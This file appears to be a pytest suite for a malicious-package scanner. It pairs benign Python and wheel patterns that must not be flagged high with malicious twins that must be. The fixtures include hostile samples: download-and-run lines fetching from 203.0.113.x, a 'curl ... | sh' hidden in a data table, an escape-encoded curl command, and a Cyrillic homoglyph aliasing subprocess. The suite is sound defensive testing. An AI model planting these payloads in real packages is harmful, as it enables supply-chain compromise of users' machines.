"""Shapes of popular releases that cried wolf on the tune-only popular corpora (round 8, the
fourth and fifth rank bands) on the disguise and mismatch side, read as what they are (no
project names), each beside its malicious twin that must stay high:

* a triple-quoted Python 3.12 f-string that reuses its quote inside a field, which 3.11
  reports on the line the string ends on, is read like the one-line kind;
* a 3.12 f-string in a call spread over lines, which 3.11 reports on the line closing the
  call, is read too;
* a plain string holding a Windows path (``'C:\\Users\\...'``: a truncated ``\\U`` escape no
  Python 3 compiles, Python 2's byte strings allow), tabs mixed with spaces, or ``async``
  as a keyword argument mark Python 2 code: unread at medium;
* a project or code template (a ``{{ name }}``/``${name}`` placeholder in code, a
  ``{{ name }}`` folder) and a fragment whose first statement is indented compile on no
  Python as they are: unread at medium;
* a WHEEL file retagged by hand after the build (RECORD's hash left behind) that holds only
  the spec's keys says where the wheel installs, not what runs;
* an archive two levels deep (a Lambda layer zip inside a JavaScript package inside a wheel)
  that code names only as a path, in a package none of whose code could unpack anything, is
  unread at medium.
"""

from __future__ import annotations

import random
import zipfile

from app.core.archive import open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import (
    compress,
    make_sdist,
    make_wheel,
    record_digests,
    tar_bytes,
    wheel_entries,
    zip_bytes,
)

HIGH = ("high", "critical")


def _wheel(tmp_path, files, name="gizmo"):
    tmp_path.mkdir(parents=True, exist_ok=True)
    return scan_artifact(open_artifact(make_wheel(tmp_path, name=name, files=files)))


def _ids(res) -> set[str]:
    return {t.id for t in res.threats if t.severity in HIGH}


def _unread(res) -> list:
    return [h for h in res.findings if h.capability == "scan.unread"]


# A Python 3.12 module: a type alias, then a triple-quoted f-string whose field holds a string
# with a backslash in the same quote style (PEP 701), which 3.11 rejects on the closing line.
MULTILINE_FSTRING = b'''from textwrap import indent

type Parts = list[str]


def render(parts: Parts) -> str:
    content = f"""
        <table class=table>
        {indent("\\n".join(parts), " " * 4)}
        </table>
        """
    return content
'''


def test_a_multiline_312_fstring_is_read_and_later_lines_keep_their_numbers(tmp_path):
    """The module parses on 3.11 after the f-string is blanked from the line it starts on:
    nothing is unread, and a call after it is found on its own line."""
    tail = b"\nimport os\nos.system('true')\n"
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/_repr.py": MULTILINE_FSTRING + tail})
    assert not _unread(res)
    assert res.risk.level not in HIGH
    spawn = [h for h in res.findings if h.capability == "process.spawn"]
    assert [h.line for h in spawn] == [MULTILINE_FSTRING.count(b"\n") + 3]


def test_a_payload_after_a_multiline_312_fstring_is_found(tmp_path):
    """Read at last, the same module with a download-and-run after the f-string is judged on
    that code: high."""
    payload = (
        b"\nimport os, urllib.request\n"
        b"urllib.request.urlretrieve('http://203.0.113.7/x', '/tmp/x')\n"
        b"os.system('chmod +x /tmp/x && /tmp/x')\n"
    )
    res = _wheel(
        tmp_path,
        {
            "gizmo/__init__.py": b"from . import _repr\n",
            "gizmo/_repr.py": MULTILINE_FSTRING + payload,
        },
    )
    assert not _unread(res)
    assert res.risk.level in HIGH


def test_a_module_that_does_not_compile_around_a_multiline_fstring_stays_unread_high(tmp_path):
    """A triple-quoted f-string followed by code this Python cannot read (a later Python's
    soft-keyword statement): still unread."""
    broken = b'x = f"""\n{y}\n"""\nlazy import os\n'
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/core.py": broken})
    assert "disguise.unread" in _ids(res)
    assert res.risk.level in HIGH


PY2_WINDOWS_PATH = b"""#!/usr/bin/python
# coding: utf8
import csv


class Places(object):
    def __init__(self, path):
        self.rows = list(csv.reader(open(path)))


if __name__ == '__main__':
    places = Places('C:\\Users\\Admin\\Downloads\\JM\\JM.txt')
    print places
"""


def test_a_windows_path_in_a_plain_string_is_python_2_code_unread_at_medium(tmp_path):
    """'C:\\Users\\...' is a truncated \\U escape in every Python 3 and a plain byte string
    in Python 2: the module runs on no Python 3, so it is unread at medium, not high. So are
    the \\u and \\N forms."""
    files = {
        "gizmo/__init__.py": b"",
        "gizmo/places.py": PY2_WINDOWS_PATH,
        "gizmo/paths.py": b"HOME = 'C:\\users\\me'\nNOTE = 'see \\N here'\n",
    }
    res = _wheel(tmp_path, files)
    unread = _unread(res)
    assert {h.path for h in unread} == {"gizmo/places.py", "gizmo/paths.py"}
    assert all(h.severity == "medium" for h in unread)
    assert "Python 2" in unread[0].explanation
    assert res.risk.level not in HIGH


def test_other_bad_escapes_stay_unread_high(tmp_path):
    """A truncated \\x escape is rejected by Python 2 as well, and an unknown \\N{NAME} may
    be known to a later Python: neither says "old code", both stay unread high."""
    for i, text in enumerate((b"KEY = 'ab\\x4'\n", b"SIGN = '\\N{NOT A REAL NAME}'\n")):
        res = _wheel(tmp_path / str(i), {"gizmo/__init__.py": b"", "gizmo/core.py": text})
        assert [h.severity for h in _unread(res)] == ["high"]
        assert "disguise.unread" in _ids(res)


RETAGGED_WHEEL = (
    b"Wheel-Version: 1.0\nGenerator: poetry-core 1.9.0\nRoot-Is-Purelib: false\n"
    b"Tag: cp311-abi3-manylinux2014_x86_64"
)


def _retagged(tmp_path, wheel_text: bytes, module_tail: bytes = b""):
    """A wheel whose RECORD holds real base64 digests of what was built, with WHEEL (and,
    with ``module_tail``, a module) rewritten afterwards."""
    module = b"def engine():\n    return 1\n"
    entries = wheel_entries("gizmo", "1.0", {"gizmo/engine.py": module})
    entries["gizmo-1.0.dist-info/RECORD"] = record_digests(entries, "gizmo-1.0.dist-info")
    entries["gizmo-1.0.dist-info/WHEEL"] = wheel_text
    entries["gizmo/engine.py"] = module + module_tail
    tmp_path.mkdir(parents=True, exist_ok=True)
    out = tmp_path / "gizmo-1.0-cp311-abi3-manylinux2014_x86_64.whl"
    out.write_bytes(zip_bytes(entries))
    return scan_artifact(open_artifact(out))


def test_a_wheel_retagged_after_the_build_is_a_medium_record_mismatch(tmp_path):
    """Only WHEEL differs from RECORD and it holds only the spec's keys: still listed, at
    medium."""
    res = _retagged(tmp_path, RETAGGED_WHEEL)
    mismatches = [h for h in res.findings if h.capability == "install.record_mismatch"]
    assert [(h.match, h.severity) for h in mismatches] == [("gizmo-1.0.dist-info/WHEEL", "medium")]
    assert res.risk.level not in HIGH


def test_a_wheel_file_with_foreign_lines_or_a_changed_module_stays_a_mismatch(tmp_path):
    """A WHEEL that holds a line the spec does not know, or a module changed after the build
    beside a retagged WHEEL, stays a high mismatch."""
    odd = RETAGGED_WHEEL + b"\nimport os; os.system('id')\n"
    res = _retagged(tmp_path / "a", odd)
    assert "mismatch.record" in _ids(res)
    res = _retagged(tmp_path / "b", RETAGGED_WHEEL, b"import os\nos.system('id')\n")
    assert "mismatch.record" in _ids(res)
    assert res.risk.level in HIGH


ASSET_JS = b""""use strict";
const path = require("path");
exports.ASSET_FILE = path.join(__dirname, 'layer.zip');
exports.LAYER_SOURCE_DIR = path.join(__dirname, '..', 'layer');
"""
# A deployment asset: two command-line programs for a cloud function, never run here. Over
# the 4 MiB a binary two levels deep keeps, so the reader records it without opening it.
_PROGRAM = b"\x7fELF" + random.Random(8).randbytes(2_300_000)
LAYER = zip_bytes({"tools/kubectl": _PROGRAM, "tools/helm": _PROGRAM[::-1]}, zipfile.ZIP_STORED)
LOADER_PY = b"""import jsii

__jsii_assembly__ = jsii.JSIIAssembly.load("@gizmo/asset", "1.0", __name__, "asset@1.0.jsii.tgz")
"""


def _asset_wheel(tmp_path, js=ASSET_JS, loader=LOADER_PY):
    bundle = compress(
        tar_bytes(
            [
                ("package/package.json", b'{"name": "@gizmo/asset", "main": "lib/index.js"}'),
                ("package/lib/index.js", js),
                ("package/lib/layer.zip", LAYER),
            ]
        ),
        "gz",
    )
    files = {"gizmo/_jsii/__init__.py": loader, "gizmo/_jsii/asset@1.0.jsii.tgz": bundle}
    return _wheel(tmp_path, files)


def _nested_unread(res) -> list:
    return [h for h in _unread(res) if h.path.endswith("layer.zip")]


def test_an_asset_archive_two_levels_deep_named_only_as_a_path_is_unread_at_medium(tmp_path):
    """The layer zip inside the JavaScript package inside the wheel is not opened (one level
    deep only); the code names it only to hand its path on and nothing in the package could
    unpack it: still listed as not reviewed, at medium."""
    res = _asset_wheel(tmp_path)
    assert [h.severity for h in _nested_unread(res)] == ["medium"]
    assert res.risk.level not in HIGH


def test_an_archive_two_levels_deep_that_code_could_unpack_stays_unread_high(tmp_path):
    """The same package whose JavaScript unzips and starts the layer, or whose Python module
    unpacks the bundle and imports from the zip inside it: what was not read may run."""
    unzip_js = ASSET_JS + (
        b"require('child_process').execSync('unzip -o ' + exports.ASSET_FILE + "
        b"' -d /tmp/l && /tmp/l/tools/kubectl');\n"
    )
    zip_import = LOADER_PY + (
        b"import os, sys, tarfile, tempfile\n"
        b"d = tempfile.mkdtemp()\n"
        b"tarfile.open(os.path.join(os.path.dirname(__file__), 'asset@1.0.jsii.tgz')).extractall(d)\n"
        b"sys.path.insert(0, os.path.join(d, 'package', 'lib', 'layer.zip'))\n"
    )
    for i, (js, loader) in enumerate(((unzip_js, LOADER_PY), (ASSET_JS, zip_import))):
        res = _asset_wheel(tmp_path / str(i), js, loader)
        assert [h.severity for h in _nested_unread(res)] == ["high"]
        assert "disguise.unread" in _ids(res)
        assert res.risk.level in HIGH


# Python 3.12: an f-string reusing its quote with a backslash inside a call over several lines.
CALL_FSTRING = b"""def upload(error, status):
    raise RuntimeError(
        f"Failed to upload: ({status}) {error[:256].replace('\\n', ' ')}"
    )
"""


def test_a_312_fstring_inside_a_call_over_lines_is_read(tmp_path):
    """3.11 reports it on the line closing the call: the nearest f-string above is cut and
    the module is read, a call after it on its own line."""
    tail = b"\nimport os\nos.system('true')\n"
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/files.py": CALL_FSTRING + tail})
    assert not _unread(res)
    spawn = [h for h in res.findings if h.capability == "process.spawn"]
    assert [h.line for h in spawn] == [CALL_FSTRING.count(b"\n") + 3]


def test_tabs_mixed_with_spaces_and_async_arguments_are_python_2_code(tmp_path):
    """Python 2 read a tab as up to 8 columns and knew no ``async`` keyword: both modules
    are unread at medium."""
    files = {
        "gizmo/__init__.py": b"",
        "gizmo/weights.py": b"def f(x):\n        if x:\n\t\treturn 1\n        return 2\n",
        "gizmo/producer.py": b"def send(client, msg):\n    return client.send(msg, async=False)\n",
    }
    res = _wheel(tmp_path, files)
    assert {(h.path, h.severity) for h in _unread(res)} == {
        ("gizmo/weights.py", "medium"),
        ("gizmo/producer.py", "medium"),
    }
    assert res.risk.level not in HIGH


def test_templates_and_fragments_are_unread_at_medium(tmp_path):
    """A class named by a placeholder, a placeholder a line or two above the line 3.11
    blames, a string.Template placeholder, a module in a ``{{ label }}`` folder, and a
    method body kept apart to be spliced into a generated class: none compiles anywhere as
    it is, so each is listed unread at medium."""
    files = {
        "gizmo/__init__.py": b"",
        "gizmo/templates/crew.py": b"from crewai import Agent\n\nclass {{crew_name}}():\n    pass\n",
        "gizmo/templates/main_chrome.py": (
            b"crawler = Crawler(\n    headless=True,\n    {{ self.client() }}\n)\n"
        ),
        "gizmo/templates/ops.py": b"import torch\n\n${custom_ops}\n",
        "gizmo/templates/{{ label }}/main.py": b"from .core import App\nclass App(\n",
        "gizmo/_overlays/table.py": (
            b"# INTERNAL_IMPORT: from gizmo.utils import guid\n\n"
            b"    @classmethod\n    def creator(cls, name):\n        return cls(name)\n"
        ),
    }
    res = _wheel(tmp_path, files)
    unread = {h.path: h.severity for h in _unread(res)}
    assert unread == {path: "medium" for path in files if path != "gizmo/__init__.py"}
    assert all("template or fragment" in h.explanation for h in _unread(res))
    assert res.risk.level not in HIGH


def test_broken_modules_without_a_template_shape_stay_unread_high(tmp_path):
    """A placeholder only inside a string of the broken line and an indented line after real
    code (not the first statement) are no template or fragment: no Python accepts either, so
    the line is blanked and the rest analysed (rounds 14 and 17), never called a template."""
    files = {
        "gizmo/__init__.py": b"",
        "gizmo/render.py": b"import os\nTEMPLATE = '{{ name }}' +\nos.system('id')\n",
        "gizmo/core.py": b"import os\nos.system('id')\n    os.system('id')\n",
    }
    res = _wheel(tmp_path, files)
    unread = {h.path: h for h in _unread(res)}
    render, core = unread["gizmo/render.py"], unread["gizmo/core.py"]
    assert render.severity == "medium" and "blanked (line 2: " in render.explanation
    assert core.severity == "medium" and "blanked (line 3: " in core.explanation
    assert "template" not in render.explanation + core.explanation


def _unicode_table(rows: int, poisoned: bool = False) -> bytes:
    """A generated lookup table too dense to parse whole (over the parser's unit bound),
    followed by the module's functions; ``poisoned`` puts a call inside one entry."""
    entries = [f'    {i}: {{"White_Space", "Pattern_Syntax"}},' for i in range(rows)]
    if poisoned:
        entries[rows // 2] = '    7: __import__("os").system("curl http://203.0.113.9/x | sh"),'
    code = (
        "\n\nimport os\n\n\ndef name(ch):\n    return PROPERTIES.get(ord(ch))\n\n\n"
        "def refresh():\n    os.system('true')\n"
    )
    return ("PROPERTIES = {\n" + "\n".join(entries) + "\n}" + code).encode()


def test_a_table_of_literal_data_too_dense_to_parse_is_skipped_and_the_code_read(tmp_path):
    """A dict of numbers and strings only, too dense for one syntax tree: nothing in it can
    run, so it is not parsed and the functions after it are read (their call found on its
    own line); the file is not listed as unread."""
    table = _unicode_table(100_000)
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/props.py": table})
    assert not _unread(res)
    spawn = [h for h in res.findings if h.capability == "process.spawn"]
    assert [h.line for h in spawn] == [table.count(b"\n")]
    assert res.risk.level not in HIGH


def test_a_dense_table_with_a_call_inside_stays_unread_high(tmp_path):
    """One entry that calls something makes the table code: too dense to parse, it stays
    unread high."""
    table = _unicode_table(100_000, poisoned=True)
    res = _wheel(
        tmp_path, {"gizmo/__init__.py": b"from .props import name\n", "gizmo/props.py": table}
    )
    assert [h.severity for h in _unread(res)] == ["high"]
    assert res.risk.level in HIGH


PYC = b"\xa7\r\r\n" + b"\0" * 12 + b"\xe3" + b"\0" * 40


def test_a_stale_pycache_without_sources_is_shown_at_medium(tmp_path):
    """An sdist that left a build cache behind: __pycache__ .pyc files of modules that are
    not there. Python never imports them (a cached .pyc counts only beside its source), so
    they are listed, at medium."""
    files = {
        "gizmo/passkeys/__init__.py": b"",
        "gizmo/passkeys/__pycache__/models.cpython-311.pyc": PYC,
        "gizmo/passkeys/__pycache__/views.cpython-312.pyc": PYC,
    }
    res = scan_artifact(open_artifact(make_sdist(tmp_path, name="gizmo", files=files)))
    pyc = [h for h in res.findings if h.rule == "bin.pyc_only"]
    assert [h.severity for h in pyc] == ["medium"]
    assert "never imports" in pyc[0].explanation
    assert res.risk.level not in HIGH


def test_a_sourceless_pyc_python_imports_stays_high(tmp_path):
    """A .pyc in the module's own place (``gizmo/models.pyc``) is what ``import
    gizmo.models`` loads when no source is there: code nobody can review, high, also beside
    a stale cache."""
    files = {
        "gizmo/__init__.py": b"from . import models\n",
        "gizmo/models.pyc": PYC,
        "gizmo/__pycache__/views.cpython-312.pyc": PYC,
    }
    res = scan_artifact(open_artifact(make_sdist(tmp_path, name="gizmo", files=files)))
    pyc = [h for h in res.findings if h.rule == "bin.pyc_only"]
    assert [h.severity for h in pyc] == ["high"]
    assert res.risk.level in HIGH


def test_capital_magic_bytes_and_printable_opcodes_in_bytes_are_no_disguise(tmp_path):
    """A file format's signature and a machine-code pattern written as escapes in bytes
    literals spell capitals only ('EFI PART', push instructions 'PQRSUVW'): binary data, not
    hidden text."""
    module = (
        b"import re\n"
        b"GPT_SIG = b'\\x45\\x46\\x49\\x20\\x50\\x41\\x52\\x54'\n"
        b'PROLOGUE = re.compile(rb"\\xb8[\\x00-\\xff][\\x50\\x51\\x52\\x53\\x55\\x56\\x57]{0,7}")\n'
    )
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/disk.py": module})
    assert "txt.escaped_text" not in {h.rule for h in res.findings}
    assert res.risk.level not in HIGH


def test_escaped_words_in_str_or_lower_case_bytes_stay_a_disguise(tmp_path):
    """The same capitals in a str literal, and a lower-case command in bytes, are text
    hidden from reading: high."""
    for i, module in enumerate(
        (
            b"NAME = '\\x45\\x46\\x49\\x20\\x50\\x41\\x52\\x54'\n",
            b"CMD = b'\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x78'\n",  # curl -s x
        )
    ):
        res = _wheel(tmp_path / str(i), {"gizmo/__init__.py": b"", "gizmo/disk.py": module})
        assert "txt.escaped_text" in {h.rule for h in res.findings}
        assert "disguise.obfuscation" in _ids(res)


MATH_NAMES = """import numpy as np


def _merge_topk_PI(PA, PB):
    return np.minimum(PA, PB)


def _merge_topk_\u03c1I(\u03c1A, \u03c1B):
    return np.maximum(\u03c1A, \u03c1B)


def stump(T, m):
    \u03a3_T = np.std(T)
    \u03bc_Q_m_1 = np.mean(T[:m])
    return \u03a3_T / \u03bc_Q_m_1
"""


def test_greek_symbols_in_scientific_names_are_no_homoglyphs(tmp_path):
    """Σ_T, μ_Q_m_1 (a Greek letter as a part of its own) and _merge_topk_ρI (a symbol
    with an index letter, imitating no name the code uses) are how numeric code writes its
    formulas: no unicode trick."""
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/core.py": MATH_NAMES.encode()})
    assert "obf.unicode_trick" not in {h.capability for h in res.findings}
    assert res.risk.level not in HIGH


def test_look_alike_letters_inside_words_or_imitating_a_used_name_stay_homoglyphs(tmp_path):
    """A Cyrillic 'а' inside a word (``v\u0430lidate``), and a two-letter Cyrillic 'о' +
    's' that reads as the module the code imports (``\u043es``): high."""
    for i, module in enumerate(
        (
            "v\u0430lidate = exec\nv\u0430lidate('print(1)')\n",
            "import os\n\u043es = __import__('subprocess')\n\u043es.call(['id'])\n",
        )
    ):
        res = _wheel(tmp_path / str(i), {"gizmo/__init__.py": b"", "gizmo/m.py": module.encode()})
        assert "obf.unicode_trick" in {h.capability for h in res.findings}
        assert "disguise.unicode" in _ids(res)


def _combinator(depth: int) -> str:
    """A parser combinator's grammar: each rule a lambda handed to the next combinator."""
    expr = "self.literal(p, ']')"
    for _ in range(depth):
        expr = f"self.optional(p, lambda p: {expr})"
    return f"class Grammar:\n    def rule(self):\n        return lambda p: {expr}\n"


def test_lambdas_handed_to_combinators_are_no_lambda_chain(tmp_path):
    """Seven lambdas nested as arguments of the grammar's combinators are callbacks, not a
    wrapper around hidden code."""
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/msg.py": _combinator(7).encode()})
    assert "py.lambda_chain" not in {h.rule for h in res.findings}
    assert res.risk.level not in HIGH


def test_curried_and_called_in_place_lambda_chains_stay_a_disguise(tmp_path):
    """Lambdas that are each other's bodies, or called in place one inside the next (what
    one-line packers emit), stay a lambda chain: high."""
    curried = "f = " + "lambda a: " * 8 + "a\n"
    invoked = "0"
    for i in range(8):
        invoked = f"(lambda _l{i}: {invoked})({i})"
    for i, module in enumerate((curried, f"x = {invoked}\n")):
        res = _wheel(tmp_path / str(i), {"gizmo/__init__.py": b"", "gizmo/m.py": module.encode()})
        assert "py.lambda_chain" in {h.rule for h in res.findings}
        assert "disguise.obfuscation" in _ids(res)
